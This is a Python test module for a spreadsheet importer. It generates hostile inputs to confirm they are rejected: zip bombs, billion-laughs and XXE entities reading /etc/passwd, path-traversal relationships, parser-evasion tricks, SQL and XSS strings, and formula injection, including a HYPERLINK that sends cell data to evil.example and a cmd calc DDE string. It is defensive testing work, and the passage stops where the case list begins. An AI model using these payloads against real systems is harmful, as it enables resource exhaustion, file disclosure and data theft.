"""A corpus of hostile and odd input files, each built on the fly by a test (DESIGN §8, issue 7).

Every ``Case`` writes its file(s) into a directory and says what must happen when it is loaded into
a store that already holds the organisation of tests.workbooks:

- *accepted*: valid data in an odd form; ``check`` asserts the values that reached the store;
- *rejected*: a clear Swedish message (``message`` is a substring of one issue's ``message_sv``),
  naming sheet/row/column where they apply, and the store keeps what it had.

The files are built here rather than checked in so that each one is plainly what it claims to be
(a real zip bomb, a real encrypted workbook, a streamed million-row sheet, …).

``python -m tests.hostile_corpus URL PATH`` loads PATH into the store at URL and prints the result
as JSON: the tests run it in a child process with an address-space cap to measure time and memory.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import resource
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from etl import models
from etl.schema import WORKBOOK_KINDS
from tests.workbooks import TODAY, admin_rows, write_admin, write_admin_csv

ACCEPTED, REJECTED = "accepted", "rejected"
ADMIN_SHEETS = [s.name for s in WORKBOOK_KINDS["administration"].sheets]


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], Path]  # writes into the directory, returns the path to load
    outcome: str  # accepted | rejected
    message: str = ""  # rejected: a substring of one issue's Swedish message
    sheet: str | None = None  # rejected: that issue's sheet, row and column (when they apply)
    row: int | None = None
    column: str | None = None
    check: Callable[[Engine], None] | None = None  # accepted: what must be in the store


# --------------------------------------------------------------------------- zip surgery


def shadowing_etl(folder: Path, marker: Path) -> Path:
    """A working folder holding another ``etl`` package whose reading modules, if run, only
    create ``marker``: a load started there must still run this checkout's code."""
    package = folder / "etl"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text("")
    for module in ("sandboxed_read", "pipeline"):
        (package / f"{module}.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    return folder


def sheet_part(sheet_name: str) -> str:
    """The part openpyxl writes an administration workbook's sheet to (sheets in schema order)."""
    return f"xl/worksheets/sheet{ADMIN_SHEETS.index(sheet_name) + 1}.xml"


def rewrite_zip(
    source: Path,
    target: Path,
    change: dict[str, Callable[[bytes], bytes]] | None = None,
    add: dict[str, bytes] | None = None,
) -> Path:
    """Copy an xlsx part by part, changing some parts and adding others."""
    change, add = change or {}, add or {}
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename in change:
                data = change[info.filename](data)
            dst.writestr(info.filename, data)
        for name, data in add.items():
            dst.writestr(name, data)
    return target


def _admin_variant(directory: Path, name: str, **change) -> Path:
    base = write_admin(directory / "base", name="base.xlsx")
    return rewrite_zip(base, directory / name, change or None)


def _prepend_xml(prologue: bytes) -> Callable[[bytes], bytes]:
    """Put ``prologue`` after the XML declaration of a part."""

    def apply(data: bytes) -> bytes:
        if not data.startswith(b"<?xml"):
            return prologue + data  # openpyxl writes some parts without a declaration
        declaration, _, rest = data.partition(b"?>")
        return declaration + b"?>" + prologue + rest

    return apply


# --------------------------------------------------------------------------- store checks


def asset_values(engine: Engine, column: str) -> dict[str, object]:
    with Session(engine) as s:
        rows = s.execute(select(models.Asset.code, getattr(models.Asset, column))).all()
    return dict(rows)


def expect_assets(**expected: object) -> Callable[[Engine], None]:
    """A check: the named asset columns hold exactly these values (code -> value)."""

    def check(engine: Engine) -> None:
        for column, values in expected.items():
            assert asset_values(engine, column) == values, column

    return check


NAMES = {"1882-SOC-T001": "Journalsystem", "1882-SOC-T002": "Schemaplanering",
         "1882-SOC-T003": "Pärm med avtal"}  # fmt: skip


def _rows_with_names(*names: str):
    rows = admin_rows()
    for asset, name in zip(rows["assets"], names, strict=False):
        asset["name"] = name
    return rows


# --------------------------------------------------------------------------- hostile xlsx


def zip_bomb(d: Path) -> Path:
    # 150 MB of zeros deflate to ~150 kB: a ratio of ~1000 (limit 200).
    return rewrite_zip(write_admin(d / "base"), d / "bomb.xlsx",
                       add={"xl/media/image1.bin": b"\0" * (150 * 1024 * 1024)})  # fmt: skip


def lying_zip_sizes(d: Path) -> Path:
    """A member whose directory entry claims 100 bytes but which inflates to 60 MB."""
    path = zip_bomb_small = d / "liar.xlsx"
    rewrite_zip(write_admin(d / "base"), path, add={"xl/media/a.bin": b"\0" * (60 * 1024 * 1024)})
    data = bytearray(path.read_bytes())
    name = b"xl/media/a.bin"
    # Patch the uncompressed size in both the local header and the central directory.
    for sig, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(sig, start)) != -1:
            name_at = start + (30 if sig == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name:
                data[start + size_at : start + size_at + 4] = struct.pack("<I", 100)
            start += 4
    zip_bomb_small.write_bytes(bytes(data))
    return path


BILLION_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)


def billion_laughs(d: Path) -> Path:
    def explode(data: bytes) -> bytes:
        data = _prepend_xml(BILLION_LAUGHS)(data)
        return data.replace(b"<t>Journalsystem</t>", b"<t>&lol9;</t>", 1)

    return _admin_variant(d, "laughs.xlsx", **{sheet_part("Tillgångar"): explode})


def external_entity(d: Path) -> Path:
    xxe = b'<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    return _admin_variant(d, "xxe.xlsx", **{sheet_part("Tillgångar"): _prepend_xml(xxe)})


def dtd_after_long_comment(d: Path) -> Path:
    """The DTD hides behind 10 kB of comment, past where a scan of the first bytes would look."""
    prologue = b"<!--" + b"x" * 10_000 + b'--><!DOCTYPE x [<!ENTITY e "ett">]>'
    return _admin_variant(d, "padded.xlsx", **{"xl/workbook.xml": _prepend_xml(prologue)})


def absurd_dimension(d: Path) -> Path:
    def claim(data: bytes) -> bytes:
        return re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', data)

    parts = {sheet_part(name): claim for name in ADMIN_SHEETS}
    return _admin_variant(d, "dimension.xlsx", **parts)


def million_rows(d: Path) -> Path:
    """A Tillgångar sheet of 1 000 001 rows, streamed straight into the zip (seconds, not minutes)."""
    base = write_admin(d / "base")
    target = d / "miljon.xlsx"
    part = sheet_part("Tillgångar")
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != part:
                dst.writestr(info.filename, src.read(info))
                continue
            head = src.read(info).split(b"<sheetData>")[0]
            with dst.open(part, "w") as out:
                out.write(head + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
                          b"Tillg\xc3\xa5ngs-ID</t></is></c></row>")  # fmt: skip
                for start in range(2, 1_000_003, 10_000):
                    out.write(b"".join(
                        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>T%d</t></is></c></row>'
                        % (n, n, n) for n in range(start, min(start + 10_000, 1_000_003))
                    ))  # fmt: skip
                out.write(b"</sheetData></worksheet>")
    return target


def too_wide(d: Path) -> Path:
    path = d / "bred.xlsx"
    wb = load_workbook(write_admin(d / "base"))
    wb["Tillgångar"].cell(row=1, column=300, value="Kolumn 300")
    wb.save(path)
    return path


def truncated(d: Path) -> Path:
    data = write_admin(d / "base").read_bytes()
    path = d / "avbruten.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return path


# --------------------------------------------------------------------------- the package's own structure
#
# Each of these passed a pattern-matching pre-scan, and calamine then asked for 512 GiB (or for
# what a lying count claims) and aborted the whole process. They must be refused by the package
# inspection, which finds the parts through the relationships and parses them.

TILLGANGAR = sheet_part("Tillgångar")
FAR_CELL = b"<row r='1048576'><c r='XFD1048576' t='inlineStr'><is><t>x</t></is></c></row>"
WORKSHEET_TYPE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
WORKSHEET_CT = b"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


def _far(cell: bytes) -> Callable[[bytes], bytes]:
    """Add ``cell`` (a row with a far-away cell) at the end of a sheet's data."""
    return lambda data: data.replace(b"</sheetData>", cell + b"</sheetData>")


def _move_part(
    d: Path,
    name: str,
    old: str,
    new: str,
    change=None,
    target: str | None = None,
    content_type: bool = True,
) -> Path:
    """The administration workbook with part ``old`` moved to ``new`` (and changed), the
    workbook's relationship pointing at ``target`` (default: ``/new``)."""
    base = write_admin(d / "base")
    path = d / name
    target_bytes = (target or "/" + new).encode()
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data, filename = src.read(info), info.filename
            if filename == old:
                filename = new
                data = change(data) if change else data
            elif filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b'"/' + old.encode() + b'"', b'"' + target_bytes + b'"')
            elif filename == "[Content_Types].xml":
                override = (
                    b'<Override PartName="/'
                    + old.encode()
                    + b'" ContentType="'
                    + WORKSHEET_CT
                    + b'"/>'
                )
                moved = override.replace(old.encode(), new.encode()) if content_type else b""
                data = data.replace(override, moved)
            dst.writestr(filename, data)
    return path


def single_quoted_refs(d: Path) -> Path:
    return _admin_variant(d, "enkelfnutt.xlsx", **{TILLGANGAR: _far(FAR_CELL)})


def lower_case_refs(d: Path) -> Path:
    cell = b'<row><c r="xfd1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return _admin_variant(d, "gemener.xlsx", **{TILLGANGAR: _far(cell)})


def character_reference_in_ref(d: Path) -> Path:
    """``&#88;`` is X: a parser reads XFD1048576 where a byte pattern sees no letter."""
    cell = b'<row><c r="&#88;FD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return _admin_variant(d, "teckenref.xlsx", **{TILLGANGAR: _far(cell)})


def ref_without_row_number(d: Path) -> Path:
    cell = b'<row r="9"><c r="XFD" t="inlineStr"><is><t>x</t></is></c></row>'
    return _admin_variant(d, "utan-radnummer.xlsx", **{TILLGANGAR: _far(cell)})


def rows_without_r_past_the_limit(d: Path) -> Path:
    """A far row number on an empty row; the next rows (without r) count on from it."""
    cell = b"<row r='199999'></row><row/><row><c t='inlineStr'><is><t>x</t></is></c></row>"
    return _admin_variant(d, "rader-utan-r.xlsx", **{TILLGANGAR: _far(cell)})


def prefixed_elements(d: Path) -> Path:
    cell = (b"<x:row xmlns:x='http://schemas.openxmlformats.org/spreadsheetml/2006/main' "
            b"r='1048576'><x:c r='XFD1048576'><x:v>1</x:v></x:c></x:row>")  # fmt: skip
    return _admin_variant(d, "prefix.xlsx", **{TILLGANGAR: _far(cell)})


def utf16_sheet_part(d: Path) -> Path:
    """The sheet in UTF-16: every byte pattern of the references is broken by NUL bytes."""

    def utf16(data: bytes) -> bytes:
        text = _far(FAR_CELL)(data).decode("utf-8")
        return ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")

    return _admin_variant(d, "utf16.xlsx", **{TILLGANGAR: utf16})


def dimension_claims_small(d: Path) -> Path:
    """The dimension says A1:I4; the real extent goes to XFD1048576."""

    def lie(data: bytes) -> bytes:
        data = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:I4"/>', data)
        return _far(FAR_CELL)(data)

    return _admin_variant(d, "liten-dimension.xlsx", **{TILLGANGAR: lie})


def sparse_corners(d: Path) -> Path:
    """Two cells within the row and column limits, A1 and GR200000: 40 million cells from A1."""
    cell = b'<row r="200000"><c r="GR200000"><v>1</v></c></row>'
    return _admin_variant(d, "horn.xlsx", **{TILLGANGAR: _far(cell)})


def moved_sheet_part(d: Path) -> Path:
    return _move_part(d, "flyttad.xlsx", TILLGANGAR, "xl/ws/sheet1.xml", _far(FAR_CELL))


def moved_sheet_part_relative(d: Path) -> Path:
    return _move_part(d, "flyttad-relativ.xlsx", TILLGANGAR, "xl/ws/sheet1.xml", _far(FAR_CELL),
                      target="ws/sheet1.xml")  # fmt: skip


def sheet_part_outside_xl(d: Path) -> Path:
    return _move_part(d, "utanfor-xl.xlsx", TILLGANGAR, "data/s.xml", _far(FAR_CELL))


def renamed_bin_sheet_part(d: Path) -> Path:
    """The sheet renamed .bin, no content type saying it is XML: readers parse it anyway."""
    return _move_part(d, "bin-blad.xlsx", TILLGANGAR, "xl/worksheets/sheet2.bin",
                      _far(FAR_CELL), content_type=False)  # fmt: skip


def dtd_in_moved_part(d: Path) -> Path:
    def explode(data: bytes) -> bytes:
        data = _prepend_xml(BILLION_LAUGHS)(data)
        return data.replace(b"<t>Journalsystem</t>", b"<t>&lol9;</t>", 1)

    return _move_part(d, "dtd-flyttad.xlsx", TILLGANGAR, "xl/ws/sheet1.xml", explode)


def dtd_in_renamed_bin_part(d: Path) -> Path:
    xxe = b'<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    return _move_part(d, "dtd-bin.xlsx", TILLGANGAR, "xl/worksheets/sheet2.bin",
                      _prepend_xml(xxe), content_type=False)  # fmt: skip


def relationship_outside_package(d: Path) -> Path:
    def escape(data: bytes) -> bytes:
        return data.replace(b'"/' + TILLGANGAR.encode() + b'"', b'"../../etc/passwd"')

    return _admin_variant(d, "utanfor.xlsx", **{"xl/_rels/workbook.xml.rels": escape})


def external_sheet_relationship(d: Path) -> Path:
    def external(data: bytes) -> bytes:
        return data.replace(b'Target="/' + TILLGANGAR.encode() + b'"',
                            b'Target="file:///etc/passwd" TargetMode="External"')  # fmt: skip

    return _admin_variant(d, "extern.xlsx", **{"xl/_rels/workbook.xml.rels": external})


def absolute_uri_relationship(d: Path) -> Path:
    """An internal relationship (no TargetMode) whose target is a URI, not a part."""

    def uri(data: bytes) -> bytes:
        return data.replace(b'"/' + TILLGANGAR.encode() + b'"', b'"file:///etc/passwd"')

    return _admin_variant(d, "uri.xlsx", **{"xl/_rels/workbook.xml.rels": uri})


def missing_sheet_part(d: Path) -> Path:
    base = write_admin(d / "base")
    path = d / "saknad-del.xlsx"
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != TILLGANGAR:
                dst.writestr(info, src.read(info))
    return path


def _with_second_entry(d: Path, name: str, second_name: str) -> Path:
    """A clean workbook plus a second zip entry for the Tillgångar part, holding a far cell:
    which of the two a reader takes depends on the reader."""
    base = write_admin(d / "base")
    path = d / name
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # "Duplicate name": the very point
            dst.writestr(second_name, _far(FAR_CELL)(src.read(TILLGANGAR)))
    return path


def duplicate_part_names(d: Path) -> Path:
    return _with_second_entry(d, "dubbeldel.xlsx", TILLGANGAR)


def duplicate_part_names_by_case(d: Path) -> Path:
    return _with_second_entry(d, "dubbeldel-versaler.xlsx", TILLGANGAR.upper())


def dot_segment_part_name(d: Path) -> Path:
    return _with_second_entry(d, "punktdel.xlsx", "xl/../" + TILLGANGAR)


def _with_shared_strings(d: Path, name: str, root: bytes) -> Path:
    """The workbook with a shared-strings part (one text) whose root element is ``root``."""
    body = root + b"<si><t>oanvand</t></si></sst>"
    ct = (b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
          b'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')  # fmt: skip
    rel = (
        b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml" Id="rIdS"/></Relationships>'
    )
    base = write_admin(d / "base")
    return rewrite_zip(base, d / name, {
        "[Content_Types].xml": lambda b: b.replace(b"</Types>", ct),
        "xl/_rels/workbook.xml.rels": lambda b: b.replace(b"</Relationships>", rel),
    }, add={"xl/sharedStrings.xml": body})  # fmt: skip


SST = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def huge_unique_count(d: Path) -> Path:
    return _with_shared_strings(
        d, "unika-texter.xlsx", SST + b' count="1" uniqueCount="4000000000">'
    )


def huge_shared_strings_count(d: Path) -> Path:
    """``count`` (references to shared texts) is read by no reader: harmless, and accepted."""
    return _with_shared_strings(
        d, "antal-texter.xlsx", SST + b' count="4000000000" uniqueCount="1">'
    )


def workbook_elsewhere(d: Path) -> Path:
    """The package names a clean workbook part in /wb/; xl/workbook.xml, where readers look
    without asking, points its Tillgångar sheet at a part with a far cell."""
    base = write_admin(d / "base")
    path = d / "annan-arbetsbok.xlsx"
    main = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "_rels/.rels":
                data = data.replace(b'Target="xl/workbook.xml"', b'Target="/wb/book.xml"')
            elif info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", b'<Override PartName="/wb/book.xml" '
                                    b'ContentType="' + main + b'"/></Types>')  # fmt: skip
            elif info.filename == "xl/_rels/workbook.xml.rels":
                dst.writestr("wb/_rels/book.xml.rels", data)
                data = data.replace(b'"/' + TILLGANGAR.encode() + b'"', b'"decoy/far.xml"')
            elif info.filename == "xl/workbook.xml":
                dst.writestr("wb/book.xml", data)
            dst.writestr(info.filename, data)
        dst.writestr("xl/decoy/far.xml", _far(FAR_CELL)(src.read(TILLGANGAR)))
    return path


def sheet_pointing_at_the_workbook(d: Path) -> Path:
    """A sheet relationship whose target is the workbook part itself, which also holds a far
    cell: read as a sheet by the reader, so checked as one."""

    def point(data: bytes) -> bytes:
        return data.replace(b'"/' + TILLGANGAR.encode() + b'"', b'"/xl/workbook.xml"')

    def far(data: bytes) -> bytes:
        return data.replace(b"</workbook>", b"<sheetData>" + FAR_CELL + b"</sheetData></workbook>")

    return _admin_variant(d, "bok-som-blad.xlsx", **{"xl/_rels/workbook.xml.rels": point,
                                                     "xl/workbook.xml": far})  # fmt: skip


# --------------------------------------------------------------------------- wrong file types


def old_xls(d: Path) -> Path:
    path = d / "gammal.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096)
    return path


def ods_renamed(d: Path) -> Path:
    path = d / "kalkyl.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet",
                    compress_type=zipfile.ZIP_STORED)  # fmt: skip
        zf.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
        zf.writestr("content.xml", "<office:document-content/>")
    return path


def png_renamed(d: Path) -> Path:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0")) + chunk(b"IEND", b""))  # fmt: skip
    path = d / "bild.xlsx"
    path.write_bytes(png)
    return path


def password_protected(d: Path) -> Path:
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = write_admin(d / "base")
    path = d / "losenord.xlsx"
    with plain.open("rb") as fh, path.open("wb") as out:
        OOXMLFile(fh).encrypt("hemligt", out)
    return path


def zero_bytes(d: Path) -> Path:
    path = d / "tom.xlsx"
    path.write_bytes(b"")
    return path


def empty_workbook(d: Path) -> Path:
    path = d / "tom-arbetsbok.xlsx"
    Workbook().save(path)
    return path


# --------------------------------------------------------------------------- odd sheets


def _edit(d: Path, name: str, edit: Callable, rows=None) -> Path:
    """Write the administration workbook, let ``edit`` change it with openpyxl, save as ``name``."""
    wb = load_workbook(write_admin(d / "base", rows))
    edit(wb)
    path = d / name
    wb.save(path)
    return path


def missing_sheet(d: Path) -> Path:
    return _edit(d, "utan-tillgangar.xlsx", lambda wb: wb.remove(wb["Tillgångar"]))


def renamed_sheet(d: Path) -> Path:
    def rename(wb):
        wb["Tillgångar"].title = "Tillgångar 2026"

    return _edit(d, "omdopt.xlsx", rename)


def duplicate_sheet(d: Path) -> Path:
    def copy(wb):
        wb.copy_worksheet(wb["Tillgångar"]).title = "TILLGÅNGAR "

    return _edit(d, "dubbel.xlsx", copy)


def extra_sheets(d: Path) -> Path:
    def add(wb):
        wb.create_sheet("Anteckningar").append(["Det här bladet läses inte in"])
        wb.create_sheet("Diagram", 0).append(["Först i boken"])

    return _edit(d, "extra.xlsx", add)


def title_rows_above_headers(d: Path) -> Path:
    def insert(wb):
        ws = wb["Tillgångar"]
        ws.insert_rows(1, 2)
        ws["A1"] = "Socialförvaltningens informationstillgångar 2026"

    return _edit(d, "rubrik.xlsx", insert)


def merged_cells(d: Path) -> Path:
    def merge(wb):
        ws = wb["Tillgångar"]  # Personuppgifter is column G; T002 says Ja, T003 Nej
        ws.merge_cells("G3:G4")

    return _edit(d, "sammanfogad.xlsx", merge)


def hidden_rows_and_columns(d: Path) -> Path:
    def hide(wb):
        ws = wb["Tillgångar"]
        ws.row_dimensions[3].hidden = True
        ws.column_dimensions["C"].hidden = True
        wb["Uppföljning"].sheet_state = "hidden"

    return _edit(d, "dolda.xlsx", hide)


def formulas_with_cached_values(d: Path) -> Path:
    def formulas(wb):
        ws = wb["Tillgångar"]
        ws["B2"] = '=UPPER("journalsystem")'
        ws["B3"] = '=CONCATENATE("Schema","planering")'

    path = _edit(d, "formler-raw.xlsx", formulas)
    cached = iter([b"JOURNALSYSTEM", b"Schemaplanering"])

    def add_cache(data: bytes) -> bytes:  # what Excel writes: the formula and its last result
        return re.sub(rb'(<c r="B[23]")([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?',
                      lambda m: m[1] + b' t="str"><f>' + m[3] + b"</f><v>" + next(cached)
                      + b"</v>", data)  # fmt: skip

    return rewrite_zip(path, d / "formler.xlsx", {sheet_part("Tillgångar"): add_cache})


def formula_without_cached_value(d: Path) -> Path:
    def formulas(wb):
        wb["Tillgångar"]["B3"] = '=UPPER("schemaplanering")'  # never calculated: no <v>

    return _edit(d, "formel-utan-varde.xlsx", formulas)


def excel_date_serials(d: Path) -> Path:
    def serials(wb):
        ws = wb["Klassningar"]  # B = Klassningsdatum, C = Nästa översyn
        ws["B2"] = (dt.date(2026, 1, 15) - dt.date(1899, 12, 30)).days  # 46037
        ws["B2"].number_format = "General"
        ws["C2"] = "46402"  # 2027-01-15 typed as text

    return _edit(d, "serienummer.xlsx", serials)


def impossible_date(d: Path) -> Path:
    rows = admin_rows()
    rows["classifications"][1]["classified_on"] = "2026-02-30"
    return write_admin(d, rows, name="omojligt-datum.xlsx")


def megabyte_name(d: Path) -> Path:
    rows = admin_rows()
    rows["assets"][1]["name"] = "A" * 1_000_000
    return write_admin(d, rows, name="lang-text.xlsx")


def megabyte_description(d: Path) -> Path:
    rows = admin_rows()
    # ~1 MB of free text; calamine cuts cells at Excel's 32 767 characters, and the validator's
    # cap for free text is lower, so the cut text is refused rather than stored truncated.
    rows["risks"][0]["description"] = "Obehörig åtkomst " * 60_000
    return write_admin(d, rows, name="lang-beskrivning.xlsx")


def emoji_and_rtl(d: Path) -> Path:
    rows = _rows_with_names("Journal 🔐🧾 👩🏽‍⚕️", "سجل المواعيد ‏(RTL)‏", "פנקס חוזים")
    return write_admin(d, rows, name="emoji.xlsx")


SQL_TEXT = "Robert'); DROP TABLE asset;--"
HTML_TEXT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
FORMULA_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


def sql_and_html_text(d: Path) -> Path:
    def formula_as_text(wb):  # what Excel stores for '=… typed as text (openpyxl would compute)
        cell = wb["Tillgångar"]["H4"]  # Registerförteckning of T003
        cell.value = FORMULA_TEXT
        cell.data_type = "s"

    rows = _rows_with_names(SQL_TEXT, HTML_TEXT, "Pärm med avtal")
    return _edit(d, "sql-html.xlsx", formula_as_text, rows)


def sql_in_cover_code(d: Path) -> Path:
    rows = admin_rows()
    rows["cover"][0]["code"] = "1882-SOC' OR '1'='1"
    return write_admin(d, rows, name="sql-kod.xlsx")


# --------------------------------------------------------------------------- CSV sets


def _csv_set(d: Path, **kwargs) -> Path:
    return write_admin_csv(d / "csv", **kwargs)


def _rewrite_member(first: Path, slug: str, change: Callable[[bytes], bytes]) -> None:
    member = first.with_name(first.name.replace(".tillgangar.", f".{slug}."))
    member.write_bytes(change(member.read_bytes()))


def csv_bom_comma(d: Path) -> Path:
    return _csv_set(d, encoding="utf-8-sig", delimiter=",")


def csv_utf16_tabs(d: Path) -> Path:
    """Excel's "Unicode text": UTF-16 with a BOM, tab-separated."""
    first = _csv_set(d)
    for member in first.parent.glob("*.csv"):
        text = member.read_text(encoding="utf-8").replace(";", "\t")
        member.write_bytes(text.encode("utf-16"))
    return first


def csv_mixed_encodings(d: Path) -> Path:
    """One set, one file per encoding; and one file whose lines mix UTF-8 and Windows-1252."""
    rows = _rows_with_names("Journalsystem", "Schemaläggning", "Pärm med avtal")
    first = _csv_set(d, rows=rows)
    _rewrite_member(first, "risker", lambda b: b.decode("utf-8").encode("cp1252"))

    def mix(data: bytes) -> bytes:
        lines = data.decode("utf-8").splitlines(keepends=True)
        lines[3] = lines[3].encode("cp1252").decode("latin-1")  # T003 in Windows-1252
        return b"".join(
            line.encode("latin-1" if i == 3 else "utf-8") for i, line in enumerate(lines)
        )

    first.write_bytes(mix(first.read_bytes()))
    return first


def csv_date_serials(d: Path) -> Path:
    rows = admin_rows()
    rows["classifications"][0]["classified_on"] = "46037"  # 2026-01-15
    rows["classifications"][0]["next_review_on"] = "15 jan. 2027"
    return _csv_set(d, rows=rows)


def csv_nul_bytes(d: Path) -> Path:
    first = _csv_set(d)
    _rewrite_member(first, "risker", lambda b: b.replace(b"Driftstopp", b"Drift\x00stopp"))
    return first


def csv_unbalanced_quote(d: Path) -> Path:
    first = _csv_set(d)
    _rewrite_member(first, "atgarder", lambda b: b.replace(b"Revidera", b'"Revidera', 1))
    return first


def csv_megabyte_cell(d: Path) -> Path:
    rows = admin_rows()
    rows["risks"][1]["description"] = "Driftstopp " * 100_000  # 1,1 MB in one CSV field
    return _csv_set(d, rows=rows)


def csv_formula_text(d: Path) -> Path:
    rows = admin_rows()
    rows["assets"][0]["register_ref"] = FORMULA_TEXT
    rows["assets"][1]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    return _csv_set(d, rows=rows)


# --------------------------------------------------------------------------- a large valid set


def big_admin_rows(n: int) -> dict[str, list[dict[str, object]]]:
    """A valid 1882-SOC workbook with ``n`` assets (for crash and concurrency tests): n assets,
    4n/5 classifications, n/2 risk analyses and risks, n/4 actions, against tests.workbooks' org."""
    day = dt.date
    statuses = ["Ej påbörjad", "Pågår", "Klar", "Avbruten"]
    return {
        "cover": [{"kind": "Förvaltning", "code": "1882-SOC", "prepared_by": "Olle Strand"}],
        "assets": [
            {"code": f"1882-SOC-T{i:06d}", "name": f"Tillgång {i}", "carrier_type": "IT-system",
             "owners": ["1882-SOC-IFO", "1882-SOC-HT"] if i % 3 == 0
             else ["1882-SOC-HT" if i % 2 else "1882-SOC-IFO"],
             "personal_data": ["Nej", "Ja", "Känsliga"][i % 3],
             "register_ref": f"RF-{i}" if i % 4 else None}
            for i in range(n)
        ],
        "classifications": [
            {"asset": f"1882-SOC-T{i:06d}", "classified_on": day(2022 + i % 4, 1 + i % 12, 1 + i % 28),
             "confidentiality": i % 5, "integrity": (i + 1) % 5, "availability": (i + 2) % 5}
            for i in range(n) if i % 5
        ],
        "risk_analyses": [
            {"code": f"1882-SOC-RA{i:06d}", "asset": f"1882-SOC-T{i:06d}",
             "analysed_on": day(2024 + i % 2, 1 + i % 12, 1)}
            for i in range(0, n, 2)
        ],
        "risks": [
            {"code": f"1882-SOC-R{i:06d}", "analysis": f"1882-SOC-RA{i:06d}", "description": "Risk",
             "likelihood": 1 + i % 4, "consequence": 1 + (i // 2) % 4, "treatment": "Reducera"}
            for i in range(0, n, 2)
        ],
        "actions": [
            {"code": f"1882-SOC-A{i:06d}", "title": "Åtgärd", "risk": f"1882-SOC-R{i:06d}",
             "owner_unit": "1882-SOC-IFO", "due_on": day(2026, 1 + i % 12, 1),
             "status": statuses[i % 4], "completed_on": day(2026, 1, 1) if i % 4 == 2 else None}
            for i in range(0, n, 4)
        ],
    }  # fmt: skip


def write_big_admin_csv(directory: Path, n: int) -> Path:
    """``big_admin_rows(n)`` as a CSV set (fast to write and read); the path of its asset file."""
    return write_admin_csv(directory, big_admin_rows(n))


# --------------------------------------------------------------------------- the corpus


def _risk_description(engine: Engine) -> dict[str, str]:
    with Session(engine) as s:
        return dict(s.execute(select(models.Risk.code, models.Risk.description)).all())


def _classification_dates(engine: Engine) -> dict[str, tuple]:
    with Session(engine) as s:
        rows = s.execute(
            select(models.Asset.code, models.Classification.classified_on,
                   models.Classification.next_review_on).join(models.Asset)
        ).all()  # fmt: skip
    return {code: (a, b) for code, a, b in rows}


def _check_serials(engine: Engine) -> None:
    assert _classification_dates(engine)["1882-SOC-T001"] == (dt.date(2026, 1, 15),
                                                              dt.date(2027, 1, 15))  # fmt: skip


def _check_all_admin_rows(engine: Engine) -> None:
    expect_assets(name=NAMES)(engine)
    assert len(_risk_description(engine)) == 2


CASES: list[Case] = [
    # refused before a byte is parsed
    Case("zip_bomb", zip_bomb, REJECTED, "zip-bomb"),
    Case("lying_zip_sizes", lying_zip_sizes, REJECTED, "skadad"),
